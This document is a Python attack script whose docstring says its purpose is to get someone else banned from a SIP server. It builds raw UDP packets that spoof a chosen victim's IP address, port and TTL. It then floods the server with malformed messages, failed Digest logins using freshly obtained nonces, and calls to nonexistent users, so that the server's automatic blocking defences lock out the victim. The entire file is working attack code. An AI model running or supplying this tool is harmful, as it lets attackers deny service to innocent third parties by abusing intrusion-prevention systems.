#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-only
"""Tries to get somebody else banned: sends malformed messages, wrong credentials and requests for
users who do not exist under his address and port, with the TTL that his packets have. The
credentials use nonces that the server gives to the attacker's own address in the same second.
Prints how many packets it sent."""

import argparse
import random
import re
import socket
import struct
import time


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def packet(source, sport, to, payload, ttl):
    src, dst = socket.inet_aton(source), socket.inet_aton(to)
    size = 8 + len(payload)
    udp = struct.pack("!HHHH", sport, 5060, size, 0) + payload
    total = checksum(src + dst + struct.pack("!BBH", 0, 17, size) + udp) or 0xFFFF
    udp = udp[:6] + struct.pack("!H", total) + udp[8:]
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + size, random.getrandbits(16), 0, ttl, 17, 0)
    return ip + src + dst + udp


def message(options, method, user, login="", broken=False):
    token = f"{random.getrandbits(64):016x}"
    cseq = "CSeq: x\r\n" if broken else f"CSeq: 1 {method}\r\n"
    return (
        f"{method} sip:{user}@{options.server} SIP/2.0\r\n"
        f"Via: SIP/2.0/UDP {options.victim}:{options.sport};branch=z9hG4bK{token};rport\r\n"
        "Max-Forwards: 70\r\n"
        f"From: <sip:{user}@{options.server}>;tag={token[:8]}\r\n"
        f"To: <sip:{user}@{options.server}>\r\n"
        f"Call-ID: {token}\r\n{cseq}"
        f"Contact: <sip:{user}@{options.victim}:{options.sport}>\r\n{login}"
        "Content-Length: 0\r\n\r\n"
    ).encode()


def fresh_nonce(options, sock):
    """What the server gives to the attacker, now."""
    text = message(options, "REGISTER", options.user).replace(
        f"UDP {options.victim}:{options.sport}".encode(),
        f"UDP {options.own}:{sock.getsockname()[1]}".encode())
    try:
        sock.send(text)
        return re.search(rb'nonce="([^"]*)"', sock.recv(65536)).group(1).decode()
    except (OSError, AttributeError):
        return "0" * 32


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--from", dest="own", required=True)
    parser.add_argument("--victim", required=True)
    parser.add_argument("--sport", type=int, required=True)
    parser.add_argument("--user", default="100")
    parser.add_argument("--ttl", type=int, default=64)
    parser.add_argument("--seconds", type=float, default=8)
    parser.add_argument("--rate", type=float, default=60, help="packets a second")
    parser.add_argument("server")
    options = parser.parse_args()

    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    own = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    own.bind((options.own, 0))
    own.connect((options.server, 5060))
    own.settimeout(0.2)
    sent, end, nonce, second = 0, time.monotonic() + options.seconds, "", -1
    while time.monotonic() < end:
        if int(time.time()) != second:
            second = int(time.time())
            nonce = fresh_nonce(options, own)
        login = (f'Authorization: Digest username="{options.user}", realm="lab", nonce="{nonce}", '
                 f'uri="sip:{options.server}", response="{random.getrandbits(128):032x}"\r\n')
        for text in (message(options, "REGISTER", options.user, login),
                     message(options, "INVITE", f"9{random.getrandbits(20)}"),
                     message(options, "OPTIONS", f"9{random.getrandbits(20)}"),
                     message(options, "INVITE", "call", broken=True)):
            raw.sendto(packet(options.victim, options.sport, options.server, text, options.ttl),
                       (options.server, 0))
            sent += 1
            time.sleep(1 / options.rate)
    print(sent)


if __name__ == "__main__":
    main()
